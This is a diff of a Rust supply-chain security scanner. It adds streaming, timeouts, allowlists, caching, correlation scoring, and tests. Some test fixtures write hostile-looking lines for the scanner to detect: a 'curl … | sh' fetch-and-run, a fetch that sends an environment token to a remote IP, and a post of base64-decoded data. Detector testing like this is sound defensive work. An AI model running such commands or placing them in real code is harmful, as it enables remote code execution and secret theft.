+        let budget = options.file_timeout.map(|budget| Instant::now() + budget);
+        let streamed = std::fs::File::open(file_path).and_then(|file| {
+            stream::scan_reader(
+                std::io::BufReader::new(file),
+                rel_path,
+                &content_scan,
+                budget,
+            )
+        });
+        let streamed = match streamed {
+            Ok(streamed) if streamed.binary => return Vec::new(),
+            Ok(streamed) => streamed,
+            Err(e) => return unreadable(rel_path, &e),
+        };
+        if let (true, Some(budget)) = (streamed.over_budget, options.file_timeout) {
+            return vec![manifest::scan_timed_out(rel_path, budget)];
+        }
+        if streamed.cut_off {
+            // Read in part: its findings stand, but carry no file hash, and
+            // the result is marked timed out like a file cut short in memory.
+            content_scan.cut_short.store(true, Ordering::Relaxed);
+            return streamed.findings;
+        }
+        if skip_allowlisted(rel_path, &streamed.sha256) {
+            return Vec::new();
+        }
+        if let Ok(mut paths) = streamed_files.lock() {
+            paths.push(rel_path.to_string());
+        }
+        let mut found = streamed.findings;
+        for finding in &mut found {
+            finding.sha256 = Some(streamed.sha256.clone());
+        }
+        found
+    };
+
+    // Content phases run per-file in parallel; collect() preserves file order
+    // so results stay deterministic. `None` marks a file the deadline or the
+    // findings cap cut off.
+    let per_file: Vec<Option<Vec<Finding>>> = files
+        .par_iter()
+        .map(|file_path| {
+            if expired() {
+                return None;
             }
-            if should_run_phase(Phase::NetworkExfil) {
-                file_findings.extend(phases::scan_network_exfil(&rel_path, contents));
+            if cap_reached() {
+                capped_files.fetch_add(1, Ordering::Relaxed);
+                return None;
             }
-            if should_run_phase(Phase::Credentials) {
-                file_findings.extend(phases::scan_credentials(&rel_path, contents));
+            let sha256;
+            let rel_path = relative_path(file_path, strip_base);
+
+            let huge = std::fs::metadata(file_path)
+                .is_ok_and(|meta| meta.len() > stream::STREAM_THRESHOLD_BYTES);
+            if huge {
+                return Some(stream_file(file_path, &rel_path));
             }
-            if should_run_phase(Phase::Obfuscation) {
-                file_findings.extend(phases::scan_obfuscation(&rel_path, contents));
+            let read = timed(timings.as_deref(), Stage::FileIo, || read_file(file_path));
+            let contents = match read {
+                Ok(bytes) => {
+                    // Skip binary files (contains null bytes) and use lossy
+                    // UTF-8; compiled Python is the one binary format whose
+                    // strings are scanned.
+                    if bytes.contains(&0) {
+                        if !pyc::is_pyc(file_path) {
+                            return Some(Vec::new());
+                        }
+                        let sha256 = hex::encode(Sha256::digest(&bytes));
+                        if skip_allowlisted(&rel_path, &sha256) {
+                            return Some(Vec::new());
+                        }
+                        let mut found = pyc::scan_pyc(&rel_path, &bytes, |phase| {
+                            content_scan.should_run_phase(phase)
+                        });
+                        for finding in &mut found {
+                            finding.sha256 = Some(sha256.clone());
+                        }
+                        return Some(found);
+                    }
+                    // Hash the raw bytes: the lossy conversion below would
+                    // not reproduce the on-disk digest for invalid UTF-8.
+                    sha256 = hex::encode(Sha256::digest(&bytes));
+                    if skip_allowlisted(&rel_path, &sha256) {
+                        return Some(Vec::new());
+                    }
+                    String::from_utf8_lossy(&bytes).into_owned()
+                }
+                Err(e) => return Some(unreadable(&rel_path, &e)),
+            };
+
+            if let Some(done) = checkpoint.and_then(|c| c.get(&rel_path, &sha256)) {
+                return Some(done);
             }
-            if should_run_phase(Phase::PromptInjection) {
-                file_findings.extend(phases::scan_prompt_injection(&rel_path, contents));
+            if let Some(cached) = file_cache.and_then(|c| c.get(&rel_path, &sha256)) {
+                if let Some(checkpoint) = checkpoint {
+                    checkpoint.record(&rel_path, &sha256, &cached);
+                }
+                return Some(cached);
             }
-            if should_run_phase(Phase::SkillSecurity) {
-                file_findings.extend(phases::scan_skill_security(&rel_path, contents));
+
+            let budget = options.file_timeout.map(|budget| Instant::now() + budget);
+            let Some(mut file_findings) = content_scan.scan(&rel_path, &contents, budget) else {
+                // Abandoned: report it, and never cache it as complete.
+                let mut timed_out =
+                    manifest::scan_timed_out(&rel_path, options.file_timeout.unwrap_or_default());
+                timed_out.sha256 = Some(sha256);
+                return Some(vec![timed_out]);
+            };
+            for finding in &mut file_findings {
+                finding.sha256 = Some(sha256.clone());
             }
-            if should_run_phase(Phase::InferenceSecurity) {
-                file_findings.extend(phases::scan_inference_security(&rel_path, contents));
+            // A file the deadline cut short must not be cached as complete.
+            if !expired() {
+                if let Some(cache) = file_cache {
+                    cache.insert(&rel_path, &sha256, &file_findings);
+                }
+                if let Some(checkpoint) = checkpoint {
+                    checkpoint.record(&rel_path, &sha256, &file_findings);
+                }
             }
-
-            // Apply cloud signatures (from ~/.sigil/signatures.json)
-            if !cloud_sigs.is_empty() {
-                file_findings.extend(cloud_sigs::scan_with_cloud_signatures(
-                    &rel_path,
-                    contents,
-                    &cloud_sigs,
-                ));
+            Some(file_findings)
+        })
+        .inspect(|found| {
+            if let Some(found) = found {
+                matched.fetch_add(counted(found), Ordering::Relaxed);
             }
-            file_findings
         })
         .collect();
 
-    findings.extend(per_file.into_iter().flatten());
+    let skipped = per_file.iter().filter(|f| f.is_none()).count();
+    let capped_files = capped_files.into_inner();
+    let unscanned_files = skipped - capped_files;
+    let files_scanned = files_scanned - skipped;
+    // The caller removes the checkpoint once it has what it needs.
+    if let Some(Err(err)) = checkpoint.map(|c| c.save()) {
+        log_warn!("checkpoint not written: {}", err);
+    }
+    let scanned_files: Vec<String> = files
+        .iter()
+        .zip(&per_file)
+        .filter(|(_, found)| found.is_some())
+        .map(|(file, _)| relative_path(file, strip_base))
+        .collect();
+    findings.extend(per_file.into_iter().flatten().flatten());
+    let mut allowlisted = allowlisted.into_inner().unwrap_or_default();
+    allowlisted.sort();
+    let mut streamed_files = streamed_files.into_inner().unwrap_or_default();
+    streamed_files.sort();
+
+    // Escalate co-occurring findings (decode-then-send) before filtering.
+    let correlated = scoring::correlate(&findings, scoring::CORRELATION_RULES);
+    findings.extend(correlated);
+
+    findings.retain(|f| keep(f));
 
-    if let Some(min) = min_sev {
-        findings.retain(|f| f.severity >= min);
+    sort_findings(&mut findings);
+
+    let total_matched = findings.len();
+    let truncated = capped_files > 0 || options.max_findings.is_some_and(|cap| total_matched > cap);
+    if let Some(cap) = options.max_findings.filter(|_| truncated) {
+        keep_most_severe(&mut findings, cap);
     }
 
     let duration_ms = start.elapsed().as_millis() as u64;
-    let score = scoring::calculate_score(&findings);
+    let phase_scores = scoring::phase_scores(&findings);
+    let score = phase_scores.values().sum();
     let verdict = scoring::determine_verdict(&findings, score);
 
     ScanResult {
         findings,
         score,
+        phase_scores,
         verdict,
         files_scanned,
         duration_ms,
         suppressed_findings: Vec::new(),
         suppressed_by: None,
+        timed_out: unscanned_files > 0 || content_scan.cut_short.load(Ordering::Relaxed),
+        phase_timings: timings.map(|timings| timings.to_millis()),
+        allowlisted,
+        truncated,
+        total_matched: if truncated { total_matched } else { 0 },
+        unscanned_files,
+        unreadable_files: unreadable_files.into_inner(),
+        baseline_suppressed: 0,
+        meta: Some(meta),
+        scanned_files,
+        streamed_files,
     }
 }
 
@@ -381,6 +1184,19 @@ mod walker_tests {
         assert_eq!(rels, vec!["src/main.js"]);
     }
 
+    #[test]
+    fn relative_paths_use_forward_slashes() {
+        let root = Path::new("pkg");
+        assert_eq!(
+            relative_path(&root.join("src").join("a.py"), root),
+            "src/a.py"
+        );
+        assert_eq!(
+            relative_path(Path::new("pkg\\lib\\b.js"), root),
+            "pkg/lib/b.js"
+        );
+    }
+
     #[test]
     fn walks_dotfiles_but_not_git_dir() {
         let dir = tempfile::tempdir().unwrap();
@@ -431,6 +1247,515 @@ mod walker_tests {
     }
 }
 
+#[cfg(test)]
+mod timeout_tests {
+    use super::*;
+    use std::fs;
+
+    #[test]
+    fn expired_deadline_returns_partial_result() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::write(dir.path().join("a.js"), "eval(x)\n").unwrap();
+        fs::write(dir.path().join("b.js"), "eval(y)\n").unwrap();
+
+        let options = ScanOptions {
+            timeout: Some(Duration::ZERO),
+            ..ScanOptions::default()
+        };
+        let result = run_scan_with_options(dir.path(), None, None, &options);
+        assert!(result.timed_out);
+        assert_eq!(result.unscanned_files, 2);
+        assert_eq!(result.files_scanned, 0);
+        assert!(!result.findings.iter().any(|f| f.rule == "CODE-001"));
+    }
+
+    #[test]
+    fn deadline_passing_mid_file_marks_the_result_timed_out() {
+        let content_scan = ContentScan {
+            active_phases: None,
+            deadline: Some(Instant::now()),
+            cloud_sigs: Vec::new(),
+            user_rules: Vec::new(),
+            timings: None,
+            cut_short: AtomicBool::new(false),
+        };
+        let found = content_scan.scan("a.js", "eval(x)\n", None).unwrap();
+        assert!(!found.iter().any(|f| f.rule == "CODE-001"));
+        assert!(content_scan.cut_short.load(Ordering::Relaxed));
+    }
+
+    #[test]
+    fn expired_deadline_skips_the_signature_pass() {
+        let content_scan = ContentScan {
+            active_phases: None,
+            deadline: Some(Instant::now()),
+            cloud_sigs: Vec::new(),
+            user_rules: vec![cloud_sigs::CloudSignature {
+                id: "USER-001".to_string(),
+                pattern: "eval".to_string(),
+                phase: "code_patterns".to_string(),
+                severity: "high".to_string(),
+                description: String::new(),
+                updated_at: None,
+            }],
+            timings: None,
+            cut_short: AtomicBool::new(false),
+        };
+        let found = content_scan.scan("a.js", "eval(x)\n", None).unwrap();
+        assert!(!found.iter().any(|f| f.rule == "USER-001"));
+        assert!(content_scan.cut_short.load(Ordering::Relaxed));
+    }
+
+    #[test]
+    fn generous_deadline_scans_everything() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::write(dir.path().join("a.js"), "eval(x)\n").unwrap();
+
+        let options = ScanOptions {
+            timeout: Some(Duration::from_secs(600)),
+            ..ScanOptions::default()
+        };
+        let result = run_scan_with_options(dir.path(), None, None, &options);
+        assert!(!result.timed_out);
+        assert_eq!(result.unscanned_files, 0);
+        assert!(result.findings.iter().any(|f| f.rule == "CODE-001"));
+    }
+
+    #[test]
+    fn file_over_its_budget_is_abandoned_and_reported() {
+        let dir = tempfile::tempdir().unwrap();
+        // One ~1 MB line: every phase has to walk all of it.
+        let huge = "x = '".to_string() + &"aGVsbG8gd29ybGQ=".repeat(65_536) + "'\n";
+        fs::write(dir.path().join("huge.py"), huge).unwrap();
+        fs::write(dir.path().join("small.js"), "eval(x)\n").unwrap();
+
+        let options = ScanOptions {
+            file_timeout: Some(Duration::from_millis(1)),
+            ..ScanOptions::default()
+        };
+        let result = run_scan_with_options(dir.path(), None, None, &options);
+        let abandoned: Vec<&str> = result
+            .findings
+            .iter()
+            .filter(|f| f.rule == "PROV-TIMEOUT-001")
+            .map(|f| f.file.as_str())
+            .collect();
+        assert!(abandoned.contains(&"huge.py"), "{abandoned:?}");
+        assert!(!result.timed_out);
+
+        // Files that finish within the budget scan normally.
+        fs::remove_file(dir.path().join("huge.py")).unwrap();
+        let options = ScanOptions {
+            file_timeout: Some(Duration::from_secs(600)),
+            ..ScanOptions::default()
+        };
+        let result = run_scan_with_options(dir.path(), None, None, &options);
+        assert!(!result.findings.iter().any(|f| f.rule == "PROV-TIMEOUT-001"));
+        assert!(result.findings.iter().any(|f| f.rule == "CODE-001"));
+    }
+
+    #[test]
+    fn only_files_modified_since_the_cutoff_are_content_scanned() {
+        let dir = tempfile::tempdir().unwrap();
+        let old = dir.path().join("old.js");
+        let future = dir.path().join("future.js");
+        fs::write(&old, "eval(x)\n").unwrap();
+        fs::write(dir.path().join("new.js"), "eval(y)\n").unwrap();
+        fs::write(&future, "eval(z)\n").unwrap();
+        let manifest = dir.path().join("package.json");
+        fs::write(
+            &manifest,
+            r#"{"name": "w", "dependencies": {"x": "http://example.com/x.tgz"}}"#,
+        )
+        .unwrap();
+        let now = SystemTime::now();
+        let day = Duration::from_secs(86_400);
+        for stale in [&old, &manifest] {
+            filetime::set_file_mtime(stale, filetime::FileTime::from_system_time(now - day))
+                .unwrap();
+        }
+        filetime::set_file_mtime(&future, filetime::FileTime::from_system_time(now + day)).unwrap();
+
+        let options = ScanOptions {
+            modified_since: Some(now - Duration::from_secs(3600)),
+            ..ScanOptions::default()
+        };
+        let result = run_scan_with_options(dir.path(), None, None, &options);
+        let scanned: Vec<&str> = result
+            .findings
+            .iter()
+            .filter(|f| f.rule == "CODE-001")
+            .map(|f| f.file.as_str())
+            .collect();
+        assert_eq!(result.files_scanned, 2);
+        assert!(scanned.contains(&"new.js"), "{scanned:?}");
+        assert!(scanned.contains(&"future.js"), "{scanned:?}");
+        assert!(!scanned.contains(&"old.js"), "{scanned:?}");
+        // Provenance still looks at the whole tree, unchanged manifest included.
+        assert!(result
+            .findings
+            .iter()
+            .any(|f| f.rule == "PROV-010" && f.file == "package.json"));
+    }
+
+    #[test]
+    fn skip_hidden_leaves_dotfiles_to_provenance_but_scans_ci_workflows() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::create_dir_all(dir.path().join(".cache")).unwrap();
+        fs::create_dir_all(dir.path().join(".github/workflows")).unwrap();
+        fs::write(dir.path().join(".loader.js"), "eval(x)\n").unwrap();
+        fs::write(dir.path().join(".cache/run.js"), "eval(y)\n").unwrap();
+        fs::write(
+            dir.path().join(".github/workflows/ci.yml"),
+            "steps:\n  - run: node -e 'eval(z)'\n",
+        )
+        .unwrap();
+        fs::write(dir.path().join("index.js"), "eval(w)\n").unwrap();
+
+        let code_hits = |options: &ScanOptions| {
+            let result = run_scan_with_options(dir.path(), None, None, options);
+            let mut files: Vec<String> = result
+                .findings
+                .iter()
+                .filter(|f| f.rule == "CODE-001")
+                .map(|f| f.file.clone())
+                .collect();
+            files.sort();
+            let hidden_noted = result
+                .findings
+                .iter()
+                .any(|f| f.rule == "PROV-001" && f.file == ".loader.js");
+            (files, result.files_scanned, hidden_noted)
+        };
+
+        let (all, scanned, noted) = code_hits(&ScanOptions::default());
+        assert_eq!(
+            all,
+            [
+                ".cache/run.js",
+                ".github/workflows/ci.yml",
+                ".loader.js",
+                "index.js"
+            ]
+        );
+        assert_eq!(scanned, 4);
+        assert!(noted);
+
+        let skip = ScanOptions {
+            skip_hidden: true,
+            ..ScanOptions::default()
+        };
+        let (visible, scanned, noted) = code_hits(&skip);
+        assert_eq!(visible, [".github/workflows/ci.yml", "index.js"]);
+        assert_eq!(scanned, 2);
+        assert!(noted, "provenance still reports the hidden file");
+    }
+
+    #[test]
+    fn max_findings_caps_the_result_and_marks_it_truncated() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::write(dir.path().join("a.js"), "eval(x)\n".repeat(20)).unwrap();
+        let phases = ["code_patterns".to_string()];
+
+        let full = run_scan(dir.path(), Some(&phases), None);
+        assert!(full.findings.len() > 5);
+        assert!(!full.truncated);
+        assert_eq!(full.total_matched, 0);
+
+        let capped = ScanOptions {
+            max_findings: Some(5),
+            ..ScanOptions::default()
+        };
+        let result = run_scan_with_options(dir.path(), Some(&phases), None, &capped);
+        assert!(result.truncated);
+        assert_eq!(result.findings.len(), 5);
+        assert_eq!(result.total_matched, full.findings.len());
+        assert!(result.score < full.score, "score is a lower bound");
+        assert!(!result.timed_out, "the cap is not a timeout");
+    }
+
+    #[test]
+    fn allowlisted_file_is_not_content_scanned() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::create_dir_all(dir.path().join("vendor")).unwrap();
+        fs::write(dir.path().join("vendor/lib.js"), "eval(x)\n").unwrap();
+        fs::write(dir.path().join("index.js"), "eval(y)\n").unwrap();
+        let list_path = dir.path().join("allowlist.json");
+        crate::allowlist::add(&list_path, &[dir.path().join("vendor")], "reviewed").unwrap();
+
+        let options = ScanOptions {
+            allowlist: Some(Arc::new(crate::allowlist::load(&list_path).unwrap())),
+            ..ScanOptions::default()
+        };
+        let result = run_scan_with_options(dir.path(), None, None, &options);
+        assert!(
+            result.findings.iter().all(|f| f.file != "vendor/lib.js"),
+            "{:?}",
+            result.findings
+        );
+        assert!(result.findings.iter().any(|f| f.file == "index.js"));
+        assert_eq!(result.allowlisted, ["vendor/lib.js"]);
+
+        // Any edit brings the file back into the scan.
+        fs::write(dir.path().join("vendor/lib.js"), "eval(z)\n").unwrap();
+        let result = run_scan_with_options(dir.path(), None, None, &options);
+        assert!(result.findings.iter().any(|f| f.file == "vendor/lib.js"));
+        assert!(result.allowlisted.is_empty());
+    }
+
+    #[test]
+    fn timings_are_recorded_only_when_asked_for() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::write(dir.path().join("a.js"), "eval(x)\n".repeat(200)).unwrap();
+
+        let plain = run_scan_with_options(dir.path(), None, None, &ScanOptions::default());
+        assert!(plain.phase_timings.is_none());
+
+        let timed = ScanOptions {
+            timings: true,
+            ..ScanOptions::default()
+        };
+        let result = run_scan_with_options(dir.path(), None, None, &timed);
+        let timings = result.phase_timings.expect("timings recorded");
+        for stage in ["FileIo", "Normalize", "CodePatterns", "Obfuscation"] {
+            assert!(timings.contains_key(stage), "{stage} missing: {timings:?}");
+        }
+        assert_eq!(result.findings.len(), plain.findings.len());
+    }
+
+    #[test]
+    fn repeated_scans_serialise_identically() {
+        let dir = tempfile::tempdir().unwrap();
+        for pkg in ["a", "b", "c"] {
+            let sub = dir.path().join(pkg);
+            fs::create_dir_all(&sub).unwrap();
+            fs::write(
+                sub.join("index.js"),
+                "eval(x)\nfetch('http://203.0.113.7/' + process.env.TOKEN)\n",
+            )
+            .unwrap();
+            fs::write(
+                sub.join(".hidden.sh"),
+                "curl -s http://203.0.113.7/x | sh\n",
+            )
+            .unwrap();
+        }
+        let json = || {
+            let mut result = run_scan(dir.path(), None, None);
+            // Per-run fields; everything else must be reproducible.
+            result.duration_ms = 0;
+            result.meta = None;
+            serde_json::to_string(&result).unwrap()
+        };
+        let first = json();
+        assert!(first.contains("CODE-001"));
+        assert_eq!(first, json());
+    }
+
+    #[test]
+    fn findings_sort_by_phase_file_line_and_rule() {
+        let finding = |phase, file: &str, line, rule: &str| Finding {
+            phase,
+            rule: rule.to_string(),
+            severity: Severity::Low,
+            file: file.to_string(),
+            line,
+            snippet: String::new(),
+            weight: 1,
+            confidence: 100,
+            kev: false,
+            epss: 0.0,
+            sha256: None,
+            region: None,
+        };
+        let mut findings = vec![
+            finding(Phase::Provenance, "a.js", None, "PROV-001"),
+            finding(Phase::CodePatterns, "b.js", Some(2), "CODE-002"),
+            finding(Phase::CodePatterns, "b.js", Some(2), "CODE-001"),
+            finding(Phase::CodePatterns, "a.js", Some(9), "CODE-001"),
+            finding(Phase::InstallHooks, "z.js", None, "INSTALL-001"),
+            finding(Phase::CodePatterns, "a.js", None, "CODE-003"),
+        ];
+        sort_findings(&mut findings);
+        let order: Vec<(&str, Option<usize>, &str)> = findings
+            .iter()
+            .map(|f| (f.file.as_str(), f.line, f.rule.as_str()))
+            .collect();
+        assert_eq!(
+            order,
+            [
+                ("z.js", None, "INSTALL-001"),
+                ("a.js", None, "CODE-003"),
+                ("a.js", Some(9), "CODE-001"),
+                ("b.js", Some(2), "CODE-001"),
+                ("b.js", Some(2), "CODE-002"),
+                ("a.js", None, "PROV-001"),
+            ]
+        );
+    }
+
+    #[test]
+    fn package_scans_do_not_expect_a_git_directory() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::write(dir.path().join("package.json"), r#"{"name": "pkg"}"#).unwrap();
+        let prov_006 = |result: &ScanResult| result.findings.iter().any(|f| f.rule == "PROV-006");
+
+        assert!(prov_006(&run_scan(dir.path(), None, None)));
+        assert!(!prov_006(&run_package_scan(dir.path())));
+    }
+
+    #[test]
+    fn keep_most_severe_keeps_order() {
+        let finding = |rule: &str, severity| Finding {
+            phase: Phase::CodePatterns,
+            rule: rule.to_string(),
+            severity,
+            file: "a.js".to_string(),
+            line: None,
+            snippet: String::new(),
+            weight: 1,
+            confidence: 100,
+            kev: false,
+            epss: 0.0,
+            sha256: None,
+            region: None,
+        };
+        let mut findings = vec![
+            finding("A", Severity::Low),
+            finding("B", Severity::Critical),
+            finding("C", Severity::Medium),
+            finding("D", Severity::High),
+        ];
+        keep_most_severe(&mut findings, 2);
+        let rules: Vec<&str> = findings.iter().map(|f| f.rule.as_str()).collect();
+        assert_eq!(rules, ["B", "D"]);
+    }
+}
+
+#[cfg(test)]
+mod unreadable_tests {
+    use super::*;
+    use std::fs;
+
+    /// Fails to read `locked.js` the way a file without read permission
+    /// does, whoever runs the tests.
+    fn locked_read(path: &Path) -> std::io::Result<Vec<u8>> {
+        if path.ends_with("locked.js") {
+            return Err(std::io::Error::from(std::io::ErrorKind::PermissionDenied));
+        }
+        fs::read(path)
+    }
+
+    #[test]
+    fn permission_denied_file_is_reported_not_skipped() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::write(dir.path().join("locked.js"), "eval(x)\n").unwrap();
+
+        let result =
+            scan_reading_with(dir.path(), None, None, &ScanOptions::default(), locked_read);
+        assert_eq!(result.unreadable_files, 1);
+        let reported: Vec<_> = result
+            .findings
+            .iter()
+            .filter(|f| f.file == "locked.js")
+            .collect();
+        assert_eq!(reported.len(), 1, "{:?}", reported);
+        assert_eq!(reported[0].rule, "PROV-UNREADABLE-001");
+        assert_eq!(reported[0].severity, Severity::Low);
+        assert!(reported[0].snippet.contains("permission denied"));
+
+        let options = ScanOptions {
+            strict: true,
+            ..ScanOptions::default()
+        };
+        let strict = scan_reading_with(dir.path(), None, None, &options, locked_read);
+        assert_eq!(strict.unreadable_files, 1);
+        assert!(strict.findings.iter().any(|f| f.rule == "PROV-PARSE-001"));
+        assert!(!strict
+            .findings
+            .iter()
+            .any(|f| f.rule == "PROV-UNREADABLE-001"));
+    }
+
+    #[test]
+    fn invalid_utf8_is_scanned_not_unreadable() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::write(dir.path().join("latin1.js"), b"// caf\xe9\neval(x)\n").unwrap();
+
+        let result = run_scan_with_options(dir.path(), None, None, &ScanOptions::default());
+        assert_eq!(result.unreadable_files, 0);
+        assert!(result.findings.iter().any(|f| f.rule == "CODE-001"));
+    }
+}
+
+#[cfg(test)]
+mod hash_tests {
+    use super::*;
+
+    #[test]
+    fn findings_carry_sha256_of_raw_file_bytes() {
+        let dir = tempfile::tempdir().unwrap();
+        // Invalid UTF-8 byte: a hash of the lossy string would differ.
+        let bytes = b"eval(x) // \xff\n".to_vec();
+        std::fs::write(dir.path().join("a.js"), &bytes).unwrap();
+
+        let result = run_scan(dir.path(), None, None);
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule == "CODE-001")
+            .expect("eval finding");
+        assert_eq!(
+            finding.sha256.as_deref(),
+            Some(hex::encode(Sha256::digest(&bytes)).as_str())
+        );
+    }
+
+    #[test]
+    fn match_regions_count_utf16_code_units() {
+        let dir = tempfile::tempdir().unwrap();
+        // `é` is one UTF-16 unit but two bytes; `😀` is two units, four bytes.
+        let source = "// ü\nconst s = \"héllo 😀\"; eval(s)\n";
+        std::fs::write(dir.path().join("a.js"), source).unwrap();
+
+        let result = run_scan(dir.path(), None, None);
+        let finding = result
+            .findings
+            .iter()
+            .find(|f| f.rule == "CODE-001")
+            .expect("eval finding");
+        let region = finding.region.expect("match region");
+        assert_eq!((region.start_line, region.end_line), (2, 2));
+        assert_eq!((region.start_column, region.end_column), (23, 28));
+        assert_eq!((region.char_offset, region.char_length), (27, 5));
+
+        let multiline = Region::of_match("a\n😀b\ncd", 2, 9);
+        assert_eq!((multiline.start_line, multiline.start_column), (2, 1));
+        assert_eq!((multiline.end_line, multiline.end_column), (3, 2));
+        assert_eq!((multiline.char_offset, multiline.char_length), (2, 5));
+    }
+}
+
+#[cfg(test)]
+mod correlation_tests {
+    use super::*;
+
+    #[test]
+    fn decoded_payload_posted_in_one_call_is_correlated() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("upload.py"),
+            "import base64, requests\n\
+             requests.post(\"http://x.com\", data=base64.b64decode(s))\n",
+        )
+        .unwrap();
+        let result = run_scan(dir.path(), None, None);
+        let rules: Vec<&str> = result.findings.iter().map(|f| f.rule.as_str()).collect();
+        assert!(rules.contains(&"NET-021"), "{rules:?}");
+        assert!(rules.contains(&"CORR-001"), "{rules:?}");
+    }
+}
+
 #[cfg(test)]
 mod fixtures_tests {
     use super::*;
@@ -493,3 +1818,94 @@ mod fixtures_tests {
         }
     }
 }
+
+#[cfg(test)]
+mod phase_filter_tests {
+    use super::*;
+
+    fn names(spec: &str) -> Vec<String> {
+        parse_phase_filter(spec).unwrap().unwrap()
+    }
+
+    #[test]
+    fn negation_runs_every_other_phase() {
+        let phases = names("!provenance");
+        assert_eq!(phases.len(), scoring::PHASE_KEYS.len() - 1);
+        assert!(!phases.iter().any(|p| p == "provenance"));
+        assert_eq!(names("not:provenance"), phases);
+        assert_eq!(names("all,-provenance"), phases);
+
+        // A provenance-only hit disappears; content findings stay.
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join(".hidden-script"), "payload\n").unwrap();
+        std::fs::write(dir.path().join("run.py"), "eval(input())\n").unwrap();
+        let result = run_scan(dir.path(), Some(&phases), None);
+        assert!(result.findings.iter().all(|f| f.phase != Phase::Provenance));
+        assert!(result
+            .findings
+            .iter()
+            .any(|f| f.phase == Phase::CodePatterns));
+        let full = run_scan(dir.path(), None, None);
+        assert!(full.findings.iter().any(|f| f.phase == Phase::Provenance));
+    }
+
+    #[test]
+    fn inclusion_and_exclusion_combine_in_order() {
+        assert_eq!(
+            names("code_patterns, network-exfil"),
+            vec!["code_patterns", "network_exfil"]
+        );
+        assert_eq!(
+            names("code_patterns,credentials,!credentials"),
+            vec!["code_patterns"]
+        );
+        assert_eq!(parse_phase_filter("all").unwrap(), None);
+        assert_eq!(parse_phase_filter("").unwrap(), None);
+    }
+
+    #[test]
+    fn severity_names_are_checked() {
+        assert_eq!(parse_severity("HIGH"), Ok(Severity::High));
+        let err = parse_severity("hgih").unwrap_err();
+        assert!(err.contains("unknown severity 'hgih'"), "{err}");
+        assert!(err.contains("low, medium, high, or critical"));
+    }
+
+    #[test]
+    fn min_confidence_drops_heuristic_findings() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("hook.py"),
+            "notify_url = \"https://relay.ngrok.io/collect\"\n",
+        )
+        .unwrap();
+        let rules = |result: &ScanResult| -> Vec<(String, u8)> {
+            result
+                .findings
+                .iter()
+                .filter(|f| f.phase == Phase::NetworkExfil)
+                .map(|f| (f.rule.clone(), f.confidence))
+                .collect()
+        };
+        let all = rules(&run_scan(dir.path(), None, None));
+        assert!(all.contains(&("NET-006".to_string(), 30)), "{all:?}");
+        assert!(all.contains(&("NET-007".to_string(), 90)), "{all:?}");
+
+        let options = ScanOptions {
+            min_confidence: Some(60),
+            ..ScanOptions::default()
+        };
+        let result = run_scan_with_options(dir.path(), None, None, &options);
+        assert!(result.findings.iter().all(|f| f.confidence >= 60));
+        let kept = rules(&result);
+        assert_eq!(kept, vec![("NET-007".to_string(), 90)]);
+    }
+
+    #[test]
+    fn unknown_or_empty_selections_are_errors() {
+        let err = parse_phase_filter("code_patterns,provenanse").unwrap_err();
+        assert!(err.contains("unknown phase 'provenanse'"), "{err}");
+        assert!(parse_phase_filter("!nope").is_err());
+        assert!(parse_phase_filter("all,!all").is_err());
+    }
+}